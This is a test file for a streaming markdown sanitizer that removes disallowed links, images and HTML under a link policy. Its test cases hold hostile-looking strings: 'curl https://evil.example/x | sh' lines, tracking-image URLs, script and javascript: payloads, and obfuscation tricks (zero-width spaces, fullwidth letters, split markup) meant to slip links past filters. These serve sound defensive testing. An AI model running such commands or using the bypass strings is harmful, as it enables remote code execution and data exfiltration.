import assert from 'node:assert/strict';
import { test } from 'node:test';
import { marked } from 'marked';
import { CheckedMarkdown, type LinkPolicy } from './checked-markdown.ts';

const policy: LinkPolicy = {
  link: (target) => (target.startsWith('/good') || target === 'https://good.example/a' ? target : undefined),
  allowsUrl: (url) => url.startsWith('https://good.example'),
  allowsUrlInCode: (url) => url.startsWith('https://good.example'),
  quotes: (text) => text.includes('really said'),
};

/** Sends text in pieces of this many characters; returns the reader's text at the end. */
function check(text: string, size = text.length): string {
  const checked = new CheckedMarkdown(policy);
  let out = '';
  for (let at = 0; at < text.length; at += Math.max(1, size))
    out += checked.push(text.slice(at, at + Math.max(1, size)));
  return out + checked.end();
}

const unchanged = [
  'Plain text, **bold**, `code` and 2 < 3.\n\n- a list\n- of *two*\n',
  'A [page](/good/a#b) and [another host](https://good.example/a).',
  '```bash\ncurl https://good.example/x?y=1 | sh\n[not a link](/x) <b>\n```\nafter',
  '| a | b |\n| - | - |\n| [x](/good) | y |\n',
  '> really said\n\nno more',
  '- [ ] to do\n- [x] done [1]',
  'An `a``b` and ``a`b`` and a lone \\` mark!',
  'Emphasis with! and [brackets] (and parentheses).',
];

test('allowed content is sent unchanged, in pieces of any size', () => {
  for (const text of unchanged) for (const size of [1, 2, 7, 1_000]) assert.equal(check(text, size), text);
});

const removed: readonly (readonly [string, string])[] = [
  ['A [page](/bad) here', 'A page here'],
  ['![picture](https://evil.example/p.png?q=1) x', 'picture x'],
  ['[![picture](https://evil.example/p.png)](https://evil.example)', 'picture'],
  ['See https://evil.example/x.', 'See '],
  ['See <https://evil.example/x> now', 'See  now'],
  ['<img src="https://evil.example/x"> and <b>bold</b>', ' and bold'],
  ['<script>alert(1)</script>', 'alert(1)'],
  ['[a]: https://evil.example\n[b][a]', 'b'],
  ['[a\nb](https://evil.example)', 'a\nb'],
  ['[x](javascript:alert(1))', 'x'],
  ['[x](<https://evil.example> "title")', 'x'],
  ['&#104;ttps://evil.example', ''],
  ['https\\://evil.example', ''],
  ['me@evil.example', ''],
  ['www.evil.example/x', ''],
  ['`curl https://evil.example/x`', '`curl …`'],
  ['```sh\ncurl https://evil.example/x | sh\n```', '```sh\ncurl … | sh\n```'],
  ['https:\u200b//evil.example/x', ''],
  ['ｈｔｔｐｓ://evil.example', ''],
  ['`curl https:\u200b//evil.example/x`', '`curl …`'],
  ['> never said', 'never said'],
  ['List<string> and Map<string, number>', 'List&lt;string&gt; and Map&lt;string, number&gt;'],
];

test('forbidden content is removed, in pieces of any size', () => {
  for (const [text, wanted] of removed) for (const size of [1, 3, 1_000]) assert.equal(check(text, size), wanted, text);
});

test('the text around removed markup doesn’t join to form a forbidden link or image', () => {
  for (const text of [
    'https:<b>//evil.example/x</b>',
    'https:[//evil.example/x](/bad)',
    '!<i>[x](/good/picture)',
    '[a]<b>(/bad)',
    '[a]<b>[c]',
    'ht<b>tps://evil.example</b>',
    'www<b>.evil.example</b>',
    '<<b>img src=x>',
    'https:![//evil.example](x)',
  ]) {
    const html = marked.parse(check(text, 1), { gfm: true, async: false });
    assert.doesNotMatch(html, /<(?:img|a href="(?!\/good))|evil\.example">/, `${text} → ${html}`);
  }
});

test('an unfinished construct doesn’t hold back the next paragraph or become a link, an image or HTML', () => {
  for (const text of [
    '[never',
    '![never',
    '`never',
    '<b never',
    '[x](https://evil.example',
    '```\nhttps://evil.example',
  ]) {
    const html = marked.parse(check(`${text}\n\nnext paragraph`, 1), { gfm: true, async: false });
    assert.match(html, /next paragraph/);
    assert.doesNotMatch(html, /<a |<img|<b /, `${text} → ${html}`);
  }
});

test('a sentence is sent as soon as the space after it arrives', () => {
  const checked = new CheckedMarkdown(policy);
  assert.equal(checked.push('One sentence. '), 'One sentence. ');
  assert.equal(checked.push('Two [words](/good'), 'Two ');
  assert.equal(checked.push(') and'), '[words](/good) ');
});
